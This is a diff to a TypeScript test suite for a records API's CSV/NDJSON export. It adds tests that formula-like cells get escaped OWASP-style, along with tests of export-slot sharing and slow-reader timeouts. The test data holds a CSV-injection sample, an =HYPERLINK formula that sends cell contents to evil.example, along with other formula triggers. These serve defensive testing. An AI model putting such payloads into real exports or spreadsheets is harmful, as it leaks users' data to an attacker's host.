@@ -6,6 +6,7 @@ import request from 'supertest';
 import type { DataSource } from 'typeorm';
 import { OBJECTS } from '#records/objects/index.js';
 import { newWorkspace, startApi, type TestWorkspace } from './factories.js';
+import { importErrors, importingApi, upload, waitForImport } from './import-helpers.js';
 import { allPermissions, client, expectError, keyWithRole, type Client, type Http } from './rest-helpers.js';
 
 /** Exports (docs/rest.md "Exports"): streamed CSV and NDJSON of every matching live record, bounded per workspace. */
@@ -71,8 +72,8 @@ describe('exports', () => {
     return { ws, rest };
   }
 
-  const exportOf = (secret: string | undefined, plural: string, query: Record<string, string>) => {
-    const req = request(api).get(`/rest/${plural}/export`).query(query);
+  const exportFrom = (server: Http, secret: string | undefined, plural: string, query: Record<string, string>) => {
+    const req = request(server).get(`/rest/${plural}/export`).query(query);
     if (secret) req.set('Authorization', `Bearer ${secret}`);
     // The body as text whatever its type (supertest parses only JSON).
     return req.buffer(true).parse((res, done) => {
@@ -83,6 +84,7 @@ describe('exports', () => {
       res.on('end', () => done(null, /^application\/json/.test(res.headers['content-type'] ?? '') ? JSON.parse(text) : text));
     });
   };
+  const exportOf = (secret: string | undefined, plural: string, query: Record<string, string>) => exportFrom(api, secret, plural, query);
   const lines = (text: string) => text.split('\n').filter((l) => l !== '');
   const ndjson = (text: string) => lines(text).map((l) => JSON.parse(l));
 
@@ -240,7 +242,7 @@ describe('exports', () => {
     expect(ndjson(json.body).map((r) => Object.keys(r))).toEqual(names.map(() => ['id', 'tier']));
   });
 
-  it('round-trips commas, quotes, line breaks, backslashes and non-ASCII text through a CSV parser, and leaves formulas as they are', async () => {
+  it('round-trips commas, quotes, line breaks, backslashes and non-ASCII text through a CSV parser', async () => {
     const ws = await newWorkspace(ds, 'awkward');
     const rest = client(api, ws.keys.Admin);
     const made = await rest.post(
@@ -249,7 +251,8 @@ describe('exports', () => {
       AWKWARD.map((name, i) => ({ name, domainName: { primaryLinkUrl: `x${i}.example`, primaryLinkLabel: name } })),
     );
     expect(made.status).toBe(201);
-    const res = await exportOf(ws.keys.Admin, 'companies', { format: 'csv', fields: 'name,domainName' });
+    // raw: the formula among them is written as it is (the default escaping has tests of its own below).
+    const res = await exportOf(ws.keys.Admin, 'companies', { format: 'csv', fields: 'name,domainName', formulas: 'raw' });
     const rows = parseCsv(res.body, { columns: true }) as Record<string, string>[];
     // One batch is one INSERT: the same createdAt, so the order among them is by id.
     expect(rows.map((r) => [r.name, r['domainName.primaryLinkLabel']]).sort()).toEqual(AWKWARD.map((n) => [n, n]).sort());
@@ -317,7 +320,13 @@ describe('exports', () => {
       [{}, 'VALIDATION_FAILED', /format must be csv or ndjson; got nothing/],
       [{ format: 'xml' }, 'VALIDATION_FAILED', /format must be csv or ndjson; got "xml"/],
       [{ format: 'CSV' }, 'VALIDATION_FAILED', /format must be csv or ndjson/],
-      [{ format: 'csv', limit: '10' }, 'VALIDATION_FAILED', /unknown query parameter "limit" \(allowed: format, filter, fields\)/],
+      [
+        { format: 'csv', limit: '10' },
+        'VALIDATION_FAILED',
+        /unknown query parameter "limit" \(allowed: format, filter, fields, formulas\)/,
+      ],
+      [{ format: 'csv', formulas: 'off' }, 'VALIDATION_FAILED', /formulas must be escaped or raw; got "off"/],
+      [{ format: 'csv', formulas: 'RAW' }, 'VALIDATION_FAILED', /formulas must be escaped or raw/],
       [{ format: 'csv', filter: 'nme[eq]:"x"' }, 'INVALID_FILTER', /unknown field "nme"/],
       [{ format: 'csv', filter: 'name[eq]:' }, 'INVALID_FILTER', /missing value/],
       [{ format: 'csv', fields: 'name,nope' }, 'INVALID_FIELDS', /unknown field "nope"/],
@@ -327,8 +336,14 @@ describe('exports', () => {
       const res = await exportOf(ws.keys.Admin, 'companies', query);
       expect({ query, message: expectError(res, 400, code) }).toEqual({ query, message: expect.stringMatching(message) });
     }
-    const twice = await request(api).get('/rest/companies/export?format=csv&format=ndjson').set('Authorization', `Bearer ${ws.keys.Admin}`);
-    expectError(twice, 400, 'VALIDATION_FAILED');
+    for (const query of [
+      'format=csv&format=ndjson',
+      'format=csv&formulas=raw&formulas=escaped',
+      `format=csv&formulas=${'x'.repeat(5000)}`,
+    ]) {
+      const res = await request(api).get(`/rest/companies/export?${query}`).set('Authorization', `Bearer ${ws.keys.Admin}`);
+      expect(expectError(res, 400, 'VALIDATION_FAILED').length).toBeLessThan(200);
+    }
   });
 
   it('is in the OpenAPI document, before the :id route', async () => {
@@ -336,27 +351,182 @@ describe('exports', () => {
     for (const object of OBJECTS) {
       const operation = doc.paths[`/rest/${object.plural}/export`]?.get;
       expect(operation?.operationId).toBe(`export${object.pluralType}`);
-      expect(operation.parameters.map((p: { name: string }) => p.name)).toEqual(['format', 'filter', 'fields']);
+      expect(operation.parameters.map((p: { name: string }) => p.name)).toEqual(['format', 'filter', 'fields', 'formulas']);
       expect(Object.keys(operation.responses['200'].content)).toEqual(['text/csv', 'application/x-ndjson']);
       expect(Object.keys(operation.responses).sort()).toEqual(['200', '400', '401', '403', '429']);
     }
   });
 
+  /**
+   * Formula cells (docs/rest.md "The CSV format"): a text cell that a spreadsheet would run
+   * as a formula gets a leading `'` (OWASP's CSV injection rule), which CSV imports take off again.
+   */
+  describe('formula cells', () => {
+    let importing: { app: INestApplication; http: Http };
+    let ws: TestWorkspace;
+    let rest: Client;
+
+    /** Texts a spreadsheet reads as formulas (OWASP: = + - @ tab CR first), and texts that only look close. */
+    const RISKY = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+SUM(1,2)', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1', '-', '='];
+    /** Texts already starting with quotes before a trigger: they get one more, so an import gives them back as they were. */
+    const QUOTED = ["'=1+1", "''+x"];
+    const SAFE = ['Acme', "'plain", "'", 'a=b', ' =1', '1-2'];
+    const escaped = (text: string) => (/^'*[=+\-@\t\r]/.test(text) ? `'${text}` : text);
+
+    const FORMULA_FIELDS = [
+      { object: 'companies', name: 'note', label: 'Note', type: 'TEXT' },
+      { object: 'companies', name: 'arr', label: 'ARR', type: 'NUMBER' },
+      { object: 'companies', name: 'renewal', label: 'Renewal', type: 'DATE' },
+      { object: 'companies', name: 'budget', label: 'Budget', type: 'CURRENCY' },
+      { object: 'companies', name: 'phone', label: 'Phone', type: 'PHONES' },
+      { object: 'companies', name: 'contact', label: 'Contact', type: 'EMAILS' },
+      { object: 'companies', name: 'site', label: 'Site', type: 'LINKS' },
+    ];
+    const addFields = async (api: Client) => {
+      for (const field of FORMULA_FIELDS) expect((await api.post('/rest/metadata/fields', field)).status).toBe(201);
+    };
+
+    beforeAll(async () => {
+      importing = await importingApi();
+      ws = await newWorkspace(ds, 'formulas');
+      rest = client(importing.http, ws.keys.Admin);
+      await addFields(rest);
+      const made = await rest.post(
+        '/rest/batch/companies',
+        [...RISKY, ...QUOTED, ...SAFE].map((text, i) => ({
+          name: text,
+          domainName: { primaryLinkLabel: text },
+          site: { primaryLinkUrl: `${i % 2 ? '=' : '-'}x${i}.example` },
+          note: text,
+          arr: -5 - i,
+          renewal: '2027-01-31',
+          budget: { amountMicros: -5000000, currencyCode: 'EUR' },
+          phone: {
+            primaryPhoneNumber: '+33 6 12 34 56 78',
+            primaryPhoneCountryCode: 'FR',
+            // A calling code stays as it is; anything else in that cell is text like the others.
+            primaryPhoneCallingCode: i === 0 ? '=1+1' : '+33',
+          },
+          contact: { primaryEmail: `=x${i}@evil.example`, additionalEmails: [`-y${i}@evil.example`] },
+        })),
+      );
+      expect({ status: made.status, body: made.status === 201 ? undefined : made.body }).toEqual({ status: 201, body: undefined });
+    });
+    afterAll(() => importing.app.close());
+
+    const csvRows = async (query: Record<string, string> = {}) => {
+      const res = await exportFrom(importing.http, ws.keys.Admin, 'companies', { format: 'csv', ...query });
+      expect(res.status).toBe(200);
+      return { text: res.body as string, rows: parseCsv(res.body, { columns: true }) as Record<string, string>[] };
+    };
+
+    it('CSV: a text cell that starts with = + - @ tab or CR gets a leading quote; numbers, dates, lists and calling codes never do', async () => {
+      const { rows } = await csvRows();
+      expect(rows.map((r) => r.name).sort()).toEqual([...RISKY, ...QUOTED, ...SAFE].map(escaped).sort());
+      for (const row of rows) {
+        const name = row.name.replace(/^'(?='*[=+\-@\t\r])/, '');
+        expect({ name, note: row.note, label: row['domainName.primaryLinkLabel'] }).toEqual({
+          name,
+          note: escaped(name),
+          label: escaped(name),
+        });
+        expect(row['site.primaryLinkUrl']).toMatch(/^'[=-]x\d+\.example$/);
+        expect(row['contact.primaryEmail']).toMatch(/^'=x\d+@evil\.example$/);
+        // A list is JSON text: it starts with [ whatever it holds.
+        expect(JSON.parse(row['contact.additionalEmails'])).toEqual([expect.stringMatching(/^-y\d+@evil\.example$/)]);
+        expect(Number(row.arr)).toBeLessThan(0);
+        expect(row.arr).toMatch(/^-\d+$/);
+        expect(row['budget.amountMicros']).toBe('-5000000');
+        expect(row.renewal).toBe('2027-01-31');
+        expect(row['phone.primaryPhoneNumber']).toBe("'+33 6 12 34 56 78");
+        expect(row['phone.primaryPhoneCountryCode']).toBe('FR');
+      }
+      expect(rows.map((r) => r['phone.primaryPhoneCallingCode']).sort()).toEqual([
+        "'=1+1",
+        ...Array(RISKY.length + QUOTED.length + SAFE.length - 1).fill('+33'),
+      ]);
+    });
+
+    it('formulas=raw writes every cell as it is; NDJSON never changes a value', async () => {
+      const { rows } = await csvRows({ formulas: 'raw' });
+      expect(rows.map((r) => r.name).sort()).toEqual([...RISKY, ...QUOTED, ...SAFE].sort());
+      for (const row of rows) {
+        expect(row.note).toBe(row.name);
+        expect(row['phone.primaryPhoneNumber']).toBe('+33 6 12 34 56 78');
+        expect(row['contact.primaryEmail']).toMatch(/^=x\d+@evil\.example$/);
+      }
+      for (const formulas of [{}, { formulas: 'raw' }] as Record<string, string>[]) {
+        const json = await exportFrom(importing.http, ws.keys.Admin, 'companies', { format: 'ndjson', ...formulas });
+        expect(json.status).toBe(200);
+        const records = ndjson(json.body);
+        expect(records.map((r) => r.name).sort()).toEqual([...RISKY, ...QUOTED, ...SAFE].sort());
+        for (const r of records) expect(r.note).toBe(r.name);
+      }
+    });
+
+    it('an escaped CSV export imports back unchanged: the import takes off exactly the quote the export added', async () => {
+      const before = await listAll(rest, 'companies');
+      const { text } = await csvRows();
+      const res = await upload(importing.http, ws.keys.Admin, '?object=companies&mode=upsert&match=id', text);
+      expect({ status: res.status, body: res.status === 202 ? undefined : res.body }).toEqual({ status: 202, body: undefined });
+      const done = await waitForImport(importing.http, ws.keys.Admin, res.body.data.import.id);
+      expect(await importErrors(importing.http, ws.keys.Admin, done.id as string)).toEqual([]);
+      expect(done).toMatchObject({ status: 'completed', created: 0, updated: 0, unchanged: before.length, failed: 0 });
+      expect(await listAll(rest, 'companies')).toEqual(before);
+    });
+
+    it('CSV imports take one quote off text cells only; NDJSON imports keep every value as sent', async () => {
+      const other = await newWorkspace(ds, 'formulas-in');
+      await addFields(client(importing.http, other.keys.Admin));
+      const csv = ['name,note,arr', `'=1+1,"''+x",`, `'plain,"'",`, `a,"'-",'-5`, `"'\t=1",'@x,`].join('\n');
+      const res = await upload(importing.http, other.keys.Admin, '?object=companies&mode=create', csv);
+      expect(res.status).toBe(202);
+      const done = await waitForImport(importing.http, other.keys.Admin, res.body.data.import.id);
+      expect(done).toMatchObject({ status: 'completed', created: 3, failed: 1 });
+      // A number column is not text: its quote stays, and the cell is not a number.
+      expect(await importErrors(importing.http, other.keys.Admin, done.id as string)).toEqual([
+        { row: 3, messages: [expect.stringMatching(/^arr /)] },
+      ]);
+      const json = await upload(
+        importing.http,
+        other.keys.Admin,
+        '?object=companies&mode=create',
+        JSON.stringify({ name: "'=2+2", note: "'@x" }) + '\n',
+        'application/x-ndjson',
+      );
+      expect(json.status).toBe(202);
+      expect(await waitForImport(importing.http, other.keys.Admin, json.body.data.import.id)).toMatchObject({ created: 1 });
+      const stored = (await listAll(client(importing.http, other.keys.Admin), 'companies')).map((r) => [r.name, r.note]);
+      expect(stored.sort()).toEqual(
+        [
+          ['=1+1', "'+x"],
+          ["'plain", "'"],
+          ['\t=1', '@x'],
+          ["'=2+2", "'@x"],
+        ].sort(),
+      );
+    });
+  });
+
   describe('with readers that stop', () => {
     let big: TestWorkspace;
+    /** Another workspace as big, of the same party: one person can sign up many workspaces. */
+    let big2: TestWorkspace;
     let base: string;
 
     beforeAll(async () => {
-      // About 30 MB of CSV: far more than the socket buffers between Postgres, the API and a client hold.
+      // About 30 MB of CSV each: far more than the socket buffers between Postgres, the API and a client hold.
       big = await newWorkspace(ds, 'big');
+      big2 = await newWorkspace(ds, 'big2');
       // Set-based, and without the test pool's statement timeout: the write triggers make it take a few seconds on a busy machine.
-      await ds.transaction(async (tx) => {
-        await tx.query('SET LOCAL statement_timeout = 0');
-        await tx.query(
-          `INSERT INTO companies (workspace_id, name) SELECT $1, 'Co ' || g || repeat('x', 3000) FROM generate_series(1, 10000) g`,
-          [big.id],
-        );
-      });
+      for (const ws of [big, big2])
+        await ds.transaction(async (tx) => {
+          await tx.query('SET LOCAL statement_timeout = 0');
+          await tx.query(
+            `INSERT INTO companies (workspace_id, name) SELECT $1, 'Co ' || g || repeat('x', 3000) FROM generate_series(1, 10000) g`,
+            [ws.id],
+          );
+        });
       await new Promise<void>((resolve) => (api as http.Server).listen(0, '127.0.0.1', resolve));
       base = `http://127.0.0.1:${((api as http.Server).address() as AddressInfo).port}`;
     });
@@ -382,6 +552,21 @@ describe('exports', () => {
         )
       )[0].n as number;
 
+    /** A 429 for want of an export slot, with the message it names and its Retry-After. */
+    function expectNoSlot(res: request.Response, message: RegExp): void {
+      expect(expectError(res, 429, 'RATE_LIMITED')).toMatch(message);
+      expect(res.headers['retry-after']).toBe('10');
+    }
+
+    /** A new workspace with one company exports it at once: the exports running elsewhere do not hold it up. */
+    async function exportsAtOnce(label: string): Promise<void> {
+      const other = await newWorkspace(ds, label);
+      await client(api, other.keys.Admin).post('/rest/companies', { name: 'Other' });
+      const res = await exportOf(other.keys.Admin, 'companies', { format: 'csv' });
+      expect(res.status).toBe(200);
+      expect(lines(res.body)).toHaveLength(2);
+    }
+
     async function eventually(check: () => Promise<boolean>, ms: number): Promise<boolean> {
       for (const until = Date.now() + ms; Date.now() < until; await new Promise((r) => setTimeout(r, 100))) if (await check()) return true;
       return check();
@@ -392,15 +577,9 @@ describe('exports', () => {
       for (const { res } of readers) expect(res.statusCode).toBe(200);
       expect(await runningExports(big.id)).toBe(2);
 
-      const third = await exportOf(big.keys.Admin, 'companies', { format: 'csv' });
-      expect(expectError(third, 429, 'RATE_LIMITED')).toMatch(/2 exports of this workspace are running/);
-      expect(third.headers['retry-after']).toBe('10');
+      expectNoSlot(await exportOf(big.keys.Admin, 'companies', { format: 'csv' }), /2 exports of this workspace are running/);
       // Another workspace is not held up by this one.
-      const other = await newWorkspace(ds, 'other');
-      await client(api, other.keys.Admin).post('/rest/companies', { name: 'Other' });
-      const otherExport = await exportOf(other.keys.Admin, 'companies', { format: 'csv' });
-      expect(otherExport.status).toBe(200);
-      expect(lines(otherExport.body)).toHaveLength(2);
+      await exportsAtOnce('other');
 
       // The clients go away mid-stream: their statements end within a few seconds.
       for (const reader of readers) reader.stop();
@@ -418,14 +597,63 @@ describe('exports', () => {
       expect(await eventually(async () => (await runningExports(big.id)) === 0, 3000)).toBe(true);
     });
 
-    it('ends an export whose reader reads nothing for EXPORT_STALL_TIMEOUT_MS, and stops its statement', async () => {
-      process.env.EXPORT_STALL_TIMEOUT_MS = '1500';
-      const strict = await startApi();
-      delete process.env.EXPORT_STALL_TIMEOUT_MS;
+    /** A records API of its own started with `env`, listening on a port: its origin and how to close it. */
+    async function apiWith(env: Record<string, string>): Promise<{ origin: string; http: Http; close: () => Promise<void> }> {
+      Object.assign(process.env, env);
+      const own = await startApi();
+      for (const name of Object.keys(env)) delete process.env[name];
+      const server = own.http as http.Server;
+      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+      return { origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, http: own.http, close: () => own.app.close() };
+    }
+    const apiWithStallLimit = (stallMs: number) => apiWith({ EXPORT_STALL_TIMEOUT_MS: String(stallMs) });
+
+    it("shares a server's export slots among workspaces: one party's two workspaces never hold all 4 while another asks", async () => {
+      const party = [await stalledExport(big.keys.Admin), await stalledExport(big.keys.Admin), await stalledExport(big2.keys.Admin)];
       try {
-        const server = strict.http as http.Server;
-        await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
-        const reader = await stalledExport(big.keys.Admin, `http://127.0.0.1:${(server.address() as AddressInfo).port}`);
+        for (const { res } of party) expect(res.statusCode).toBe(200);
+        // big2's second would take the server's last slot: it stays for a workspace that has none.
+        expectNoSlot(await exportOf(big2.keys.Admin, 'companies', { format: 'csv', fields: 'id' }), /kept for workspaces that have none/);
+        await exportsAtOnce('other-party');
+      } finally {
+        for (const reader of party) reader.stop();
+      }
+      expect(await eventually(async () => (await runningExports(big.id)) + (await runningExports(big2.id)) === 0, 5000)).toBe(true);
+    });
+
+    it('gives a freed slot to the workspace that was refused first, not to one that asks later', async () => {
+      const small = await apiWith({ EXPORTS_PER_INSTANCE: '2' });
+      const stops: (() => void)[] = [];
+      try {
+        const [first, late] = [await newWorkspace(ds, 'waits-first'), await newWorkspace(ds, 'waits-late')];
+        const holders = [await stalledExport(big.keys.Admin, small.origin), await stalledExport(big2.keys.Admin, small.origin)];
+        stops.push(...holders.map((h) => h.stop));
+        for (const { res } of holders) expect(res.statusCode).toBe(200);
+        expectNoSlot(await exportFrom(small.http, first.keys.Admin, 'companies', { format: 'csv' }), /This server is running 2 exports/);
+        holders[0].stop();
+        expect(await eventually(async () => (await runningExports(big.id)) === 0, 5000)).toBe(true);
+        // The slot is kept for the workspace that waits: another one asking now is behind it.
+        expectNoSlot(
+          await exportFrom(small.http, late.keys.Admin, 'companies', { format: 'csv' }),
+          /kept for workspaces that have waited longer/,
+        );
+        const served = await exportFrom(small.http, first.keys.Admin, 'companies', { format: 'csv' });
+        expect(served.status).toBe(200);
+        expect(lines(served.body)).toEqual([
+          'id,name,domainName.primaryLinkUrl,domainName.primaryLinkLabel,domainName.secondaryLinks,createdAt,updatedAt,deletedAt',
+        ]);
+        // Served, it waits no more: the next one in is served too.
+        expect((await exportFrom(small.http, late.keys.Admin, 'companies', { format: 'csv' })).status).toBe(200);
+      } finally {
+        for (const stop of stops) stop();
+        await small.close();
+      }
+    });
+
+    it('ends an export whose reader reads nothing for EXPORT_STALL_TIMEOUT_MS, and stops its statement', async () => {
+      const strict = await apiWithStallLimit(1500);
+      try {
+        const reader = await stalledExport(big.keys.Admin, strict.origin);
         expect(reader.res.statusCode).toBe(200);
         expect(await runningExports(big.id)).toBe(1);
         expect(await eventually(async () => (await runningExports(big.id)) === 0, 8000)).toBe(true);
@@ -437,8 +665,45 @@ describe('exports', () => {
         reader.res.resume();
         expect(await ended).toBe(false);
       } finally {
-        await strict.app.close();
+        await strict.close();
       }
     });
+
+    it('serves a reader that takes the file slowly but steadily to its end, however long past EXPORT_STALL_TIMEOUT_MS that is', async () => {
+      // Loopback TCP acknowledges a paced reader in steps of about 256 KB (its receive window
+      // reopens once 1/16 of its buffer is free): at 200 KB/s a step every ~1.5 s, under the
+      // 4 s limit, while the socket's own buffer (MBs) takes the API's bytes only every ~8 s.
+      const RATE = 200_000;
+      const SLOW_FOR_MS = 12_000;
+      const strict = await apiWithStallLimit(4000);
+      try {
+        const { status, complete, body } = await new Promise<{ status?: number; complete: boolean; body: string }>((resolve, reject) => {
+          const req = http.get(
+            `${strict.origin}/rest/companies/export?format=csv&fields=name`,
+            { headers: { Authorization: `Bearer ${big.keys.Admin}` } },
+            (res) => {
+              const chunks: Buffer[] = [];
+              const started = Date.now();
+              res.on('data', (chunk: Buffer) => {
+                chunks.push(chunk);
+                if (Date.now() - started > SLOW_FOR_MS) return;
+                res.pause();
+                setTimeout(() => res.resume(), (chunk.length / RATE) * 1000);
+              });
+              const done = () => resolve({ status: res.statusCode, complete: res.complete, body: Buffer.concat(chunks).toString('utf8') });
+              res.on('end', done);
+              res.on('error', done);
+              res.on('close', done);
+            },
+          );
+          req.on('error', reject);
+        });
+        expect(status).toBe(200);
+        expect(complete).toBe(true);
+        expect(lines(body)).toHaveLength(10001);
+      } finally {
+        await strict.close();
+      }
+    }, 60_000);
   });
 });
